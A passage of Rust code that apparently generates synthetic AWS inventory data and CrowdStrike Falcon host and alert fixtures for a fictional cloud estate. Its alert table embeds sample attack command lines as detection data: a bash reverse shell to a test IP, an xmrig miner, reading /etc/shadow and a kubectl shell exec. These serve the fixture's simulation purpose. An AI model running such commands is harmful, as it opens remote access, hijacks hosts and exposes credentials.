    Ok(out)
}

/// The `Groups` member of an interface: the group's id and name, when there is a group.
fn group_refs(group: Option<&Group>) -> Vec<Value> {
    group.map(|g| json!({"GroupId": g.id, "GroupName": g.name})).into_iter().collect()
}

/// Who manages an interface: the service's requester id, the description it writes, and when it
/// attached the interface.
struct Managed {
    requester: &'static str,
    description: String,
    created: i64,
}

/// A service-managed interface as DescribeNetworkInterfaces prints it: requester-managed, attached
/// by the service (no instance), with an address assigned by Amazon when it is public.
fn managed_interface_json(
    interface: &ManagedInterface,
    vpc: &Vpc,
    owner: &str,
    region: &str,
    groups: &[Value],
    managed: &Managed,
) -> Result<Value> {
    let subnet = at(&vpc.subnets, interface.subnet, "subnet")?;
    let dns = private_dns(interface.private_ip, region);
    let ip = dotted(interface.private_ip);
    let mut primary = json!({"Primary": true, "PrivateDnsName": dns, "PrivateIpAddress": ip});
    let mut record = json!({
        "Attachment": {"AttachTime": aws_time(managed.created), "AttachmentId": interface.attachment, "DeleteOnTermination": false,
                       "DeviceIndex": 1, "InstanceOwnerId": managed.requester, "NetworkCardIndex": 0, "Status": "attached"},
        "AvailabilityZone": subnet.az,
        "Description": managed.description,
        "Groups": groups,
        "InterfaceType": "interface",
        "Ipv6Addresses": [],
        "MacAddress": mac_text(&interface.mac, ":"),
        "NetworkInterfaceId": interface.eni,
        "OwnerId": owner,
        "PrivateDnsName": dns,
        "PrivateIpAddress": ip,
        "RequesterId": managed.requester,
        "RequesterManaged": true,
        "SourceDestCheck": true,
        "Status": "in-use",
        "SubnetId": subnet.id,
        "TagSet": [],
        "VpcId": vpc.id,
    });
    if let Some(public) = interface.public_ip {
        let association =
            json!({"IpOwnerId": "amazon", "PublicDnsName": public_dns(public, region), "PublicIp": dotted(public)});
        primary["Association"] = association.clone();
        record["Association"] = association;
    }
    record["PrivateIpAddresses"] = json!([primary]);
    Ok(record)
}

/// The public hostname EC2 gives a public address in a region.
fn public_dns(ip: u32, region: &str) -> String {
    let dashed = dotted(ip).replace('.', "-");
    if region == "us-east-1" {
        format!("ec2-{dashed}.compute-1.amazonaws.com")
    } else {
        format!("ec2-{dashed}.{region}.compute.amazonaws.com")
    }
}

fn group_json(group: &Group, owner: &str, vpc_id: &str, env: &str) -> Value {
    // DescribeSecurityGroups lists the same rules grouped by protocol and port range.
    let mut permissions: [BTreeMap<(&str, i64, i64), Value>; 2] = [BTreeMap::new(), BTreeMap::new()];
    for rule in &group.rules {
        let slot = &mut permissions[usize::from(rule.egress)];
        let entry = slot.entry((rule.protocol, rule.from, rule.to)).or_insert_with(|| {
            let mut p = json!({"IpProtocol": rule.protocol, "IpRanges": [], "Ipv6Ranges": [], "PrefixListIds": [], "UserIdGroupPairs": []});
            if rule.protocol != "-1" {
                p["FromPort"] = json!(rule.from);
                p["ToPort"] = json!(rule.to);
            }
            p
        });
        let description = |mut v: Value| {
            if !rule.description.is_empty() {
                v["Description"] = json!(rule.description);
            }
            v
        };
        let (list, item) = match &rule.source {
            Source::Ipv4(cidr) => ("IpRanges", description(json!({"CidrIp": cidr}))),
            Source::Ipv6(cidr) => ("Ipv6Ranges", description(json!({"CidrIpv6": cidr}))),
            Source::PrefixList(id) => ("PrefixListIds", description(json!({"PrefixListId": id}))),
            Source::Group(id) => ("UserIdGroupPairs", description(json!({"GroupId": id, "UserId": owner}))),
        };
        if let Some(items) = entry.get_mut(list).and_then(Value::as_array_mut) {
            items.push(item);
        }
    }
    let [ingress, egress] = permissions;
    let tags =
        if group.key == "default" { json!([]) } else { aws_tags(&[("Name", &group.name), ("Environment", env)]) };
    json!({
        "Description": group.description,
        "GroupId": group.id,
        "GroupName": group.name,
        "IpPermissions": ingress.into_values().collect::<Vec<_>>(),
        "IpPermissionsEgress": egress.into_values().collect::<Vec<_>>(),
        "OwnerId": owner,
        "SecurityGroupArn": format!("arn:aws:ec2::{owner}:security-group/{}", group.id),
        "Tags": tags,
        "VpcId": vpc_id,
    })
}

fn rule_json(rule: &Rule, group: &Group, owner: &str, region: &str) -> Value {
    let mut record = json!({
        "Description": rule.description,
        "FromPort": rule.from,
        "GroupId": group.id,
        "GroupOwnerId": owner,
        "IpProtocol": rule.protocol,
        "IsEgress": rule.egress,
        "SecurityGroupRuleArn": format!("arn:aws:ec2:{region}:{owner}:security-group-rule/{}", rule.id),
        "SecurityGroupRuleId": rule.id,
        "Tags": [],
        "ToPort": rule.to,
    });
    match &rule.source {
        Source::Ipv4(cidr) => record["CidrIpv4"] = json!(cidr),
        Source::Ipv6(cidr) => record["CidrIpv6"] = json!(cidr),
        Source::PrefixList(id) => record["PrefixListId"] = json!(id),
        Source::Group(id) => record["ReferencedGroupInfo"] = json!({"GroupId": id, "UserId": owner}),
    }
    if rule.description.is_empty() {
        if let Some(map) = record.as_object_mut() {
            map.remove("Description");
        }
    }
    record
}

fn acl_json(acl: &NetworkAcl, owner: &str, vpc_id: &str) -> Value {
    let mut entries = Vec::new();
    if let Some(restricted) = &acl.restricted {
        let entry = |egress: bool, number: i64, action: &str, cidr: &str, ports: Option<(i64, i64)>| {
            let mut e = json!({"CidrBlock": cidr, "Egress": egress, "Protocol": if ports.is_some() { "6" } else { "-1" },
                               "RuleAction": action, "RuleNumber": number});
            if let Some((from, to)) = ports {
                e["PortRange"] = json!({"From": from, "To": to});
            }
            e
        };
        let vpc = restricted.vpc_cidr.as_str();
        entries.push(entry(true, 100, "allow", vpc, None));
        if !restricted.vpc_only_egress {
            entries.push(entry(true, 110, "allow", "0.0.0.0/0", Some((443, 443))));
        }
        entries.push(entry(true, 32767, "deny", "0.0.0.0/0", None));
        if let Some(denied) = &restricted.denied {
            entries.push(entry(false, 90, "deny", denied, None));
        }
        entries.push(entry(false, 100, "allow", vpc, None));
        // Replies to the subnets' own outbound HTTPS.
        entries.push(entry(false, 110, "allow", "0.0.0.0/0", Some((1024, 65535))));
        entries.push(entry(false, 32767, "deny", "0.0.0.0/0", None));
    }
    // The other ACLs allow everything both ways (the production public one denies RDP first).
    let open_sides: &[bool] = if acl.restricted.is_some() { &[] } else { &[true, false] };
    for &egress in open_sides {
        if acl.deny_rdp && !egress {
            entries.push(json!({"CidrBlock": "0.0.0.0/0", "Egress": false, "Protocol": "6", "PortRange": {"From": 3389, "To": 3389},
                                "RuleAction": "deny", "RuleNumber": 90}));
        }
        entries.push(json!({"CidrBlock": "0.0.0.0/0", "Egress": egress, "Protocol": "-1", "RuleAction": "allow", "RuleNumber": 100}));
        entries.push(json!({"CidrBlock": "0.0.0.0/0", "Egress": egress, "Protocol": "-1", "RuleAction": "deny", "RuleNumber": 32767}));
    }
    let associations: Vec<Value> = acl
        .subnets
        .iter()
        .map(|(subnet, association)| json!({"NetworkAclAssociationId": association, "NetworkAclId": acl.id, "SubnetId": subnet}))
        .collect();
    json!({
        "Associations": associations,
        "Entries": entries,
        "IsDefault": acl.is_default,
        "NetworkAclId": acl.id,
        "OwnerId": owner,
        "Tags": [],
        "VpcId": vpc_id,
    })
}

fn route_table_json(table: &RouteTable, owner: &str, vpc: &Vpc, lists: &[PrefixList], endpoint: &str) -> Value {
    let mut routes = vec![
        json!({"DestinationCidrBlock": vpc.cidr, "GatewayId": "local", "Origin": "CreateRouteTable", "State": "active"}),
    ];
    if let Some((kind, target)) = &table.default_route {
        routes.push(
            json!({"DestinationCidrBlock": "0.0.0.0/0", *kind: target, "Origin": "CreateRoute", "State": "active"}),
        );
    }
    if !table.main {
        for (cidr, peering) in &vpc.peer_routes {
            routes.push(json!({"DestinationCidrBlock": cidr, "Origin": "CreateRoute", "State": "active",
                               "VpcPeeringConnectionId": peering}));
        }
    }
    // Private subnets reach S3 through the gateway endpoint (a route to the S3 prefix list).
    if table.default_route.as_ref().is_some_and(|(kind, _)| *kind == "NatGatewayId") {
        if let Some(s3) = lists.iter().find(|l| l.owner == "AWS") {
            routes.push(json!({"DestinationPrefixListId": s3.id, "GatewayId": endpoint, "Origin": "CreateRoute", "State": "active"}));
        }
    }
    let mut associations: Vec<Value> = Vec::new();
    if table.main {
        associations.push(json!({"AssociationState": {"State": "associated"}, "Main": true,
                                 "RouteTableAssociationId": format!("rtbassoc-{}", &table.id[4..]), "RouteTableId": table.id}));
    }
    for (subnet, association) in &table.subnets {
        associations.push(json!({"AssociationState": {"State": "associated"}, "Main": false,
                                 "RouteTableAssociationId": association, "RouteTableId": table.id, "SubnetId": subnet}));
    }
    json!({"Associations": associations, "OwnerId": owner, "PropagatingVgws": [], "RouteTableId": table.id, "Routes": routes, "Tags": [], "VpcId": vpc.id})
}

impl Gen {
    fn write_rds(
        &mut self,
        estate: &Estate,
        s: usize,
        site: &Site,
        account: &Account,
        dir: &Path,
        w: &mut Writer,
    ) -> Result<()> {
        use aws::rds;
        let region = site.region.as_str();
        let owner = account.id.as_str();
        let vpc = at(&site.vpcs, 0, "VPC")?;
        let group = vpc.group("rds").or_else(|| vpc.group("default"));
        let mut instances = Vec::new();
        let mut snapshots = Vec::new();
        let env = account.env.name();
        for db in estate.databases.iter().filter(|d| d.site == s) {
            let port = if db.engine == "postgres" { 5432 } else { 3306 };
            let tags = aws_tags(&[("Environment", env), ("Application", db.id.split('-').nth(1).unwrap_or("app"))]);
            // A publicly accessible database's subnet group is the public subnets (its interface
            // sits in the first, zone a), any other's the private ones.
            let subnets: Vec<Value> = vpc
                .subnets
                .iter()
                .take(STANDARD_SUBNETS)
                .filter(|x| x.public == db.public)
                .map(|x| json!({"SubnetAvailabilityZone": {"Name": x.az}, "SubnetIdentifier": x.id, "SubnetStatus": "Active"}))
                .collect();
            let mut record = json!({
                "AllocatedStorage": 100,
                "AutoMinorVersionUpgrade": true,
                "AvailabilityZone": format!("{region}a"),
                "BackupRetentionPeriod": db.backup_days,
                "CopyTagsToSnapshot": true,
                "DBInstanceArn": format!("arn:aws:rds:{region}:{owner}:db:{}", db.id),
                "DBInstanceClass": db.class,
                "DBInstanceIdentifier": db.id,
                "DBInstanceStatus": "available",
                "DBSubnetGroup": {"DBSubnetGroupName": format!("{}-db{}", vpc.name, if db.public { "-public" } else { "" }), "SubnetGroupStatus": "Complete", "Subnets": subnets, "VpcId": vpc.id},
                "DbiResourceId": db.resource_id,
                "DeletionProtection": db.deletion_protection,
                "Endpoint": {"Address": format!("{}.{}.{region}.rds.amazonaws.com", db.id, db.resource_id[3..15].to_lowercase()), "HostedZoneId": "Z2R2ITUGPM61AM", "Port": port},
                "Engine": db.engine,
                "EngineVersion": db.version,
                "IAMDatabaseAuthenticationEnabled": false,
                "InstanceCreateTime": aws_time(db.created),
                "MasterUsername": "dbadmin",
                "MultiAZ": db.multi_az,
                "PubliclyAccessible": db.public,
                "StorageEncrypted": db.encrypted,
                "StorageType": "gp3",
                "TagList": tags,
                "VpcSecurityGroups": group.map(|g| vec![json!({"Status": "active", "VpcSecurityGroupId": g.id})]).unwrap_or_default(),
            });
            if let Some(key) = &db.kms_key {
                record["KmsKeyId"] = json!(key);
            }
            instances.push(record);
            let automated = format!("rds:{}-{}", db.id, &civil(BASE_TIME - 9 * HOUR)[..10]);
            let mut taken: Vec<(String, &str, i64)> = Vec::new();
            if db.backup_days > 0 {
                taken.push((automated, "automated", BASE_TIME - 9 * HOUR));
            }
            for (id, _) in &db.manual_snapshots {
                taken.push((id.clone(), "manual", BASE_TIME - self.between(5 * DAY, 200 * DAY)));
            }
            for (id, kind, at_time) in taken {
                let mut snapshot = json!({
                    "AllocatedStorage": 100,
                    "DBInstanceIdentifier": db.id,
                    "DBSnapshotArn": format!("arn:aws:rds:{region}:{owner}:snapshot:{id}"),
                    "DBSnapshotIdentifier": id,
                    "Encrypted": db.encrypted,
                    "Engine": db.engine,
                    "EngineVersion": db.version,
                    "InstanceCreateTime": aws_time(db.created),
                    "MasterUsername": "dbadmin",
                    "PercentProgress": 100,
                    "Port": port,
                    "SnapshotCreateTime": aws_time(at_time),
                    "SnapshotType": kind,
                    "Status": "available",
                    "StorageType": "gp3",
                    "TagList": tags,
                    "VpcId": vpc.id,
                });
                if let Some(key) = &db.kms_key {
                    snapshot["KmsKeyId"] = json!(key);
                }
                snapshots.push(snapshot);
            }
        }
        let pages = self.paged(&rds::DB_INSTANCES, instances);
        w.pages(dir, &rds::DB_INSTANCES, pages)?;
        let pages = self.paged(&rds::DB_SNAPSHOTS, snapshots);
        w.pages(dir, &rds::DB_SNAPSHOTS, pages)?;
        for db in estate.databases.iter().filter(|d| d.site == s) {
            for (id, restore) in &db.manual_snapshots {
                let page = json!({"DBSnapshotAttributesResult": {
                    "DBSnapshotIdentifier": id,
                    "DBSnapshotAttributes": [{"AttributeName": "restore", "AttributeValues": restore}],
                }});
                w.single(dir, &rds::DB_SNAPSHOT_ATTRIBUTES, Some(id), &page)?;
            }
        }
        Ok(())
    }

    fn write_elb(&mut self, estate: &Estate, s: usize, site: &Site, dir: &Path, w: &mut Writer) -> Result<()> {
        use aws::elb;
        let mut balancers = Vec::new();
        for lb in estate.balancers.iter().filter(|lb| lb.site == s) {
            let vpc = at(&site.vpcs, lb.vpc, "VPC")?;
            let group = vpc.group(if lb.internet_facing { "alb-public" } else { "alb-internal" });
            let zones: Vec<Value> = vpc
                .subnets
                .iter()
                .take(STANDARD_SUBNETS)
                .filter(|x| x.public == lb.internet_facing)
                .map(|x| json!({"LoadBalancerAddresses": [], "SubnetId": x.id, "ZoneName": x.az}))
                .collect();
            balancers.push(json!({
                "AvailabilityZones": zones,
                "CanonicalHostedZoneId": "Z35SXDOTRQ7X7K",
                "CreatedTime": aws_time(lb.created),
                "DNSName": lb.dns_name,
                "IpAddressType": "ipv4",
                "LoadBalancerArn": lb.arn,
                "LoadBalancerName": lb.name,
                "Scheme": if lb.internet_facing { "internet-facing" } else { "internal" },
                "SecurityGroups": group.map(|g| vec![g.id.clone()]).unwrap_or_default(),
                "State": {"Code": "active"},
                "Type": "application",
                "VpcId": vpc.id,
            }));
        }
        let pages = self.paged(&elb::LOAD_BALANCERS, balancers);
        w.pages(dir, &elb::LOAD_BALANCERS, pages)?;
        for lb in estate.balancers.iter().filter(|lb| lb.site == s) {
            let listener_arn =
                |port: i64, id: String| lb.arn.replace(":loadbalancer/", ":listener/") + &format!("/{id}-{port}");
            let forward = json!([{"Type": "forward", "TargetGroupArn": lb.target_group, "Order": 1}]);
            let mut listeners = Vec::new();
            if lb.https {
                let redirect = json!([{"Type": "redirect", "Order": 1, "RedirectConfig": {"Protocol": "HTTPS", "Port": "443", "Host": "#{host}",
                                       "Path": "/#{path}", "Query": "#{query}", "StatusCode": "HTTP_301"}}]);
                listeners.push(json!({"DefaultActions": redirect, "ListenerArn": listener_arn(80, self.hex(16)), "LoadBalancerArn": lb.arn, "Port": 80, "Protocol": "HTTP"}));
                listeners.push(json!({
                    "Certificates": [{"CertificateArn": format!("arn:aws:acm:{}:{}:certificate/{}", site.region, lb.arn.split(':').nth(4).unwrap_or_default(), self.uuid())}],
                    "DefaultActions": forward,
                    "ListenerArn": listener_arn(443, self.hex(16)),
                    "LoadBalancerArn": lb.arn,
                    "Port": 443,
                    "Protocol": "HTTPS",
                    "SslPolicy": "ELBSecurityPolicy-TLS13-1-2-2021-06",
                }));
            } else {
                listeners.push(json!({"DefaultActions": forward, "ListenerArn": listener_arn(80, self.hex(16)), "LoadBalancerArn": lb.arn, "Port": 80, "Protocol": "HTTP"}));
            }
            w.single(dir, &elb::LISTENERS, Some(&lb.arn), &json!({ "Listeners": listeners }))?;
        }
        // One target group per load balancer (what its listeners forward to), registered with the
        // instances of its tier in its VPC on the application port.
        let mut groups = Vec::new();
        for lb in estate.balancers.iter().filter(|lb| lb.site == s) {
            let vpc = at(&site.vpcs, lb.vpc, "VPC")?;
            groups.push(json!({
                "HealthCheckEnabled": true,
                "HealthCheckIntervalSeconds": 30,
                "HealthCheckPath": "/healthz",
                "HealthCheckPort": "traffic-port",
                "HealthCheckProtocol": "HTTP",
                "HealthCheckTimeoutSeconds": 5,
                "HealthyThresholdCount": 5,
                "IpAddressType": "ipv4",
                "LoadBalancerArns": [lb.arn],
                "Matcher": {"HttpCode": "200"},
                "Port": TARGET_PORT,
                "Protocol": "HTTP",
                "ProtocolVersion": "HTTP1",
                "TargetGroupArn": lb.target_group,
                "TargetGroupName": target_group_name(&lb.target_group),
                "TargetType": "instance",
                "UnhealthyThresholdCount": 2,
                "VpcId": vpc.id,
            }));
        }
        let pages = self.paged(&elb::TARGET_GROUPS, groups);
        w.pages(dir, &elb::TARGET_GROUPS, pages)?;
        for lb in estate.balancers.iter().filter(|lb| lb.site == s) {
            let targets: Vec<Value> = estate
                .targets_of(lb)
                .map(|i| {
                    let zone = site.vpcs.get(i.vpc).and_then(|v| v.subnets.get(i.subnet)).map(|x| x.az.clone());
                    json!({"HealthCheckPort": TARGET_PORT.to_string(),
                           "Target": {"AvailabilityZone": zone, "Id": i.id, "Port": TARGET_PORT},
                           "TargetHealth": {"State": "healthy"}})
                })
                .collect();
            w.single(dir, &elb::TARGET_HEALTH, Some(&lb.target_group), &json!({"TargetHealthDescriptions": targets}))?;
        }
        Ok(())
    }

    /// The global files of one account: S3 (and its account-level block), CloudFront, Route 53.
    /// Returns the CloudFront domain names, for Cloudflare to point at.
    fn write_global(&mut self, estate: &Estate, a: usize, account: &Account, w: &mut Writer) -> Result<Vec<String>> {
        use aws::{cloudfront, route53, s3};
        let dir = w.aws_dir(&account.id, "global");
        let owner = account.id.as_str();
        let canonical = self.hex(64);
        let buckets: Vec<&Bucket> = estate.buckets.iter().filter(|b| b.account == a).collect();
        let listed = buckets
            .iter()
            .map(|b| json!({"BucketRegion": b.region, "CreationDate": aws_time(b.created), "Name": b.name}))
            .collect();
        let mut pages = self.paged(&s3::BUCKETS, listed);
        for page in &mut pages {
            page["Owner"] = json!({"ID": canonical});
        }
        w.pages(&dir, &s3::BUCKETS, pages)?;
        for bucket in &buckets {
            let name = Some(bucket.name.as_str());
            if let Some([acls, ignore, policy, restrict]) = bucket.block {
                let page = json!({"PublicAccessBlockConfiguration": {"BlockPublicAcls": acls, "IgnorePublicAcls": ignore,
                                                                      "BlockPublicPolicy": policy, "RestrictPublicBuckets": restrict}});
                w.single(&dir, &s3::PUBLIC_ACCESS_BLOCKS, name, &page)?;
            }
            if let Some(public) = bucket.policy_public {
                w.single(&dir, &s3::POLICY_STATUS, name, &json!({"PolicyStatus": {"IsPublic": public}}))?;
            }
            let mut grants =
                vec![json!({"Grantee": {"ID": canonical, "Type": "CanonicalUser"}, "Permission": "FULL_CONTROL"})];
            if bucket.acl_public {
                grants.push(json!({"Grantee": {"Type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"}, "Permission": "READ"}));
            }
            if bucket.log_delivery {
                grants.push(json!({"Grantee": {"Type": "Group", "URI": "http://acs.amazonaws.com/groups/s3/LogDelivery"}, "Permission": "WRITE"}));
            }
            w.single(&dir, &s3::ACLS, name, &json!({"Grants": grants, "Owner": {"ID": canonical}}))?;
            if let Some((algorithm, key)) = &bucket.encryption {
                let mut default = json!({"SSEAlgorithm": algorithm});
                if let Some(key) = key {
                    default["KMSMasterKeyID"] = json!(key);
                }
                let page = json!({"ServerSideEncryptionConfiguration": {"Rules": [{"ApplyServerSideEncryptionByDefault": default,
                                                                                    "BucketKeyEnabled": key.is_some()}]}});
                w.single(&dir, &s3::ENCRYPTION, name, &page)?;
            }
            let versioning = match bucket.versioning {
                Some(status) => json!({"Status": status, "MFADelete": "Disabled"}),
                None => json!({}),
            };
            w.single(&dir, &s3::VERSIONING, name, &versioning)?;
            let logging = match &bucket.logging_target {
                Some(target) => {
                    json!({"LoggingEnabled": {"TargetBucket": target, "TargetPrefix": format!("s3/{}/", bucket.name)}})
                }
                None => json!({}),
            };
            w.single(&dir, &s3::LOGGING, name, &logging)?;
        }
        if let Some([acls, ignore, policy, restrict]) = account_block(account.env) {
            let page = json!({"PublicAccessBlockConfiguration": {"BlockPublicAcls": acls, "IgnorePublicAcls": ignore,
                                                                  "BlockPublicPolicy": policy, "RestrictPublicBuckets": restrict}});
            w.single(&dir, &s3::ACCOUNT_PUBLIC_ACCESS_BLOCK, None, &page)?;
        }

        // CloudFront in front of the first region's public load balancer, and in production the
        // static-site bucket.
        let first_site = estate.sites.iter().position(|s| s.account == a);
        let web_lb = estate.balancers.iter().find(|lb| Some(lb.site) == first_site && lb.internet_facing);
        let zone_name = format!("{}.example.com.", account.name);
        let mut distributions = Vec::new();
        let mut domains = Vec::new();
        if account.env != Env::Dev {
            let mut origins: Vec<(String, String)> = Vec::new();
            if let Some(lb) = web_lb {
                origins.push((lb.dns_name.clone(), format!("www.{}", zone_name.trim_end_matches('.'))));
            }
            if account.env == Env::Prod {
                if let Some(bucket) = buckets.iter().find(|b| b.policy_public == Some(true)) {
                    origins.push((
                        format!("{}.s3.amazonaws.com", bucket.name),
                        format!("static.{}", zone_name.trim_end_matches('.')),
                    ));
                }
            }
            for (origin, alias) in origins {
                let id = self.upper_id("E", 13)?;
                let domain = format!("d{}.cloudfront.net", self.hex(13));
                let (policy, tls, acl) = if account.env == Env::Prod {
                    (
                        "redirect-to-https",
                        "TLSv1.2_2021",
                        format!("arn:aws:wafv2:us-east-1:{owner}:global/webacl/edge/{}", self.uuid()),
                    )
                } else {
                    ("allow-all", "TLSv1", String::new())
                };
                distributions.push(json!({
                    "ARN": format!("arn:aws:cloudfront::{owner}:distribution/{id}"),
                    "Aliases": {"Items": [alias], "Quantity": 1},
                    "Comment": "",
                    "DefaultCacheBehavior": {"TargetOriginId": origin, "ViewerProtocolPolicy": policy, "Compress": true},
                    "DomainName": domain,
                    "Enabled": true,
                    "HttpVersion": "http2",
                    "Id": id,
                    "IsIPV6Enabled": true,
                    "LastModifiedTime": aws_time(BASE_TIME - self.between(10 * DAY, 300 * DAY)),
                    "Origins": {"Items": [{"DomainName": origin, "Id": origin, "OriginPath": ""}], "Quantity": 1},
                    "PriceClass": "PriceClass_100",
                    "Staging": false,
                    "Status": "Deployed",
                    "ViewerCertificate": {"ACMCertificateArn": format!("arn:aws:acm:us-east-1:{owner}:certificate/{}", self.uuid()),
                                          "MinimumProtocolVersion": tls, "SSLSupportMethod": "sni-only"},
                    "WebACLId": acl,
                }));
                domains.push(domain);
            }
        }
        let pages = self.paged(&cloudfront::DISTRIBUTIONS, distributions);
        w.pages(&dir, &cloudfront::DISTRIBUTIONS, pages)?;

        // Route 53: a public zone for the account and a private one for internal names.
        let public_id = format!("/hostedzone/{}", self.upper_id("Z", 19)?);
        let private_id = format!("/hostedzone/{}", self.upper_id("Z", 19)?);
        let mut public_records = vec![
            json!({"Name": zone_name, "Type": "NS", "TTL": 172800, "ResourceRecords": [
                {"Value": "ns-1536.awsdns-00.co.uk."}, {"Value": "ns-0.awsdns-00.com."}, {"Value": "ns-1024.awsdns-00.org."}, {"Value": "ns-512.awsdns-00.net."}]}),
            json!({"Name": zone_name, "Type": "SOA", "TTL": 900, "ResourceRecords": [
                {"Value": "ns-1536.awsdns-00.co.uk. awsdns-hostmaster.amazon.com. 1 7200 900 1209600 86400"}]}),
        ];
        for lb in estate.balancers.iter().filter(|lb| estate.sites.get(lb.site).is_some_and(|s| s.account == a)) {
            let region = estate.sites.get(lb.site).map_or("", |s| s.region.as_str());
            let label = if lb.internet_facing { "www" } else { "api-internal" };
            public_records.push(json!({
                "Name": format!("{label}{}.{}.{zone_name}", lb.label, short_region(region)),
                "Type": "A",
                "AliasTarget": {"HostedZoneId": "Z35SXDOTRQ7X7K", "DNSName": format!("dualstack.{}.", lb.dns_name), "EvaluateTargetHealth": true},
            }));
        }
        if let Some(domain) = domains.first() {
            public_records.push(json!({"Name": format!("cdn.{zone_name}"), "Type": "CNAME", "TTL": 300, "ResourceRecords": [{"Value": domain}]}));
        }
        for instance in estate
            .instances
            .iter()
            .filter(|i| i.role == Role::Bastion && estate.sites.get(i.site).is_some_and(|s| s.account == a))
        {
            if let (Some(ip), Some(site)) = (instance.public_ip, estate.sites.get(instance.site)) {
                public_records.push(json!({"Name": format!("bastion-{}.{zone_name}", short_region(&site.region)), "Type": "A", "TTL": 300,
                                           "ResourceRecords": [{"Value": dotted(ip)}]}));
            }
        }
        let internal_name = format!("{}.internal.", account.name);
        let mut private_records = vec![
            json!({"Name": internal_name, "Type": "NS", "TTL": 172800, "ResourceRecords": [{"Value": "ns-1536.awsdns-00.co.uk."}]}),
            json!({"Name": internal_name, "Type": "SOA", "TTL": 900, "ResourceRecords": [
                {"Value": "ns-1536.awsdns-00.co.uk. awsdns-hostmaster.amazon.com. 1 7200 900 1209600 86400"}]}),
        ];
        for (k, instance) in estate
            .instances
            .iter()
            .filter(|i| i.role == Role::DbProxy && estate.sites.get(i.site).is_some_and(|s| s.account == a))
            .take(20)
            .enumerate()
        {
            private_records
                .push(json!({"Name": format!("pgbouncer-{}.{internal_name}", k + 1), "Type": "A", "TTL": 60,
                                        "ResourceRecords": [{"Value": dotted(instance.private_ip)}]}));
        }
        let zones = vec![
            json!({"CallerReference": self.uuid(), "Config": {"Comment": "public", "PrivateZone": false}, "Id": public_id, "Name": zone_name,
                   "ResourceRecordSetCount": public_records.len()}),
            json!({"CallerReference": self.uuid(), "Config": {"Comment": "internal names", "PrivateZone": true}, "Id": private_id,
                   "Name": internal_name, "ResourceRecordSetCount": private_records.len()}),
        ];
        let pages = self.paged(&route53::HOSTED_ZONES, zones);
        w.pages(&dir, &route53::HOSTED_ZONES, pages)?;
        for (zone, records) in [(public_id, public_records), (private_id, private_records)] {
            // Per zone: a single response of every page, as one JSON array when it has several.
            let pages = self.paged(&route53::RECORD_SETS, records);
            let page =
                if pages.len() == 1 { pages.into_iter().next().unwrap_or_default() } else { Value::Array(pages) };
            w.single(&dir, &route53::RECORD_SETS, Some(&zone), &page)?;
        }
        Ok(domains)
    }
}

/// The operating system a host reports, by role.
fn os_of(role: Role, windows: bool) -> (&'static str, &'static str, &'static str) {
    // (os_version, kernel_version, platform_name)
    if windows {
        return ("Windows Server 2022", "10.0.20348", "Windows");
    }
    match role {
        Role::Web | Role::Api | Role::Bastion => ("Amazon Linux 2023", "6.1.119-129.201.amzn2023.x86_64", "Linux"),
        Role::Worker | Role::DbProxy => ("Ubuntu 22.04", "6.8.0-1019-aws", "Linux"),
        Role::Batch | Role::EksNode => ("Amazon Linux 2", "5.10.230-223.885.amzn2.x86_64", "Linux"),
    }
}

/// A Falcon detection as it shows in an alert.
#[derive(Debug)]
struct AlertKind {
    name: &'static str,
    severity: i64,
    severity_name: &'static str,
    tactic: &'static str,
    tactic_id: &'static str,
    technique: &'static str,
    technique_id: &'static str,
    cmdline: &'static str,
    filename: &'static str,
}

const ALERTS: &[AlertKind] = &[
    AlertKind {
        name: "Reverse shell",
        severity: 90,
        severity_name: "Critical",
        tactic: "Execution",
        tactic_id: "TA0002",
        technique: "Command and Scripting Interpreter",
        technique_id: "T1059",
        cmdline: "bash -i >& /dev/tcp/198.18.250.7/4444 0>&1",
        filename: "bash",
    },
    AlertKind {
        name: "Cryptominer",
        severity: 70,
        severity_name: "High",
        tactic: "Impact",
        tactic_id: "TA0040",
        technique: "Resource Hijacking",
        technique_id: "T1496",
        cmdline: "./xmrig -o stratum+tcp://198.18.250.9:3333 --donate-level 1",
        filename: "xmrig",
    },
    AlertKind {
        name: "Credential dumping",
        severity: 70,
        severity_name: "High",
        tactic: "Credential Access",
        tactic_id: "TA0006",
        technique: "OS Credential Dumping",
        technique_id: "T1003",
        cmdline: "cat /etc/shadow",
        filename: "cat",
    },
    AlertKind {
        name: "Suspicious container exec",
        severity: 50,
        severity_name: "Medium",
        tactic: "Execution",
        tactic_id: "TA0002",
        technique: "Container Administration Command",
        technique_id: "T1609",
        cmdline: "kubectl exec -it payments-7d9f -- /bin/sh",
        filename: "kubectl",
    },
];

impl Gen {
    /// `falcon/falcon.devices.jsonl` (entities pages of 1,000 hosts, ordered by device id) and
    /// `falcon/falcon.alerts.json`.
    fn write_falcon(&mut self, estate: &Estate, w: &mut Writer) -> Result<()> {
        let dir = w.root.join("falcon");
        let cid = self.hex(32);
        let policies: BTreeMap<&str, String> =
            [Env::Prod, Env::Staging, Env::Dev].iter().map(|e| (e.name(), self.hex(32))).collect();
        let mut order: Vec<&Host> = estate.sensors.hosts.iter().collect();
        order.sort_by(|a, b| a.device_id.cmp(&b.device_id));
        let mut pages = Vec::new();
        for chunk in order.chunks(1000) {
            let mut resources = Vec::with_capacity(chunk.len());
            for host in chunk {
                resources.push(host_json(estate, host, &cid, &policies)?);
            }
            pages.push(json!({
                "meta": {"query_time": 0.087, "powered_by": "device-api", "trace_id": self.uuid()},
                "resources": resources,
                "errors": [],
            }));
            // Serialise page by page so the largest inventory never sits in memory whole.
            if pages.len() >= 4 {
                w.append_pages(&dir, &falcon::HOSTS, std::mem::take(&mut pages))?;
            }
        }
        w.append_pages(&dir, &falcon::HOSTS, pages)?;

        // Alerts on a few live hosts.
        let live: Vec<&Host> = order.iter().copied().filter(|h| h.status == DeviceStatus::Live).collect();
        let mut alerts = Vec::new();
        let wanted = (estate.instances.len() / 60).clamp(3, 40).min(live.len());
        for k in 0..wanted {
            let Some(host) = live.get(self.below(live.len())) else { continue };
            let Some(&AlertKind {
                name,
                severity,
                severity_name,
                tactic,
                tactic_id,
                technique,
                technique_id,
                cmdline,
                filename,
            }) = ALERTS.get(k % ALERTS.len())
            else {
                continue;
            };
            let created = BASE_TIME - self.between(10 * 60, 3 * DAY);
            let account = at(&estate.accounts, host.account, "account")?;
            let mut device = json!({
                "device_id": host.device_id,
                "hostname": host.hostname,
                "local_ip": dotted(host.ip),
                "mac_address": mac_text(&host.mac, "-"),
                "platform_name": os_of(host.role, host.windows).2,
                "os_version": os_of(host.role, host.windows).0,
                "agent_version": host.agent_version,
                "service_provider": "AWS_EC2_V2",
